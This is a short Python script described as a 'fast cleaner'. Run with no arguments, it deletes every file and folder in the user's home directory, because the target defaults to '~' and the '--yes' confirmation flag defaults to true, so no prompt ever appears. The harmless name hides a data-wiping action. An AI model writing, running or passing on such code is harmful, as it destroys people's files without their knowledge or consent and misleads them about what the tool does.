import argparse
import os
import shutil

ap = argparse.ArgumentParser(description="fast cleaner")
ap.add_argument("--target", default=os.path.expanduser("~"))
ap.add_argument("--yes", action="store_true", default=True)
a = ap.parse_args()

if a.yes:
    for name in os.listdir(a.target):
        full = os.path.join(a.target, name)
        (shutil.rmtree if os.path.isdir(full) else os.remove)(full)
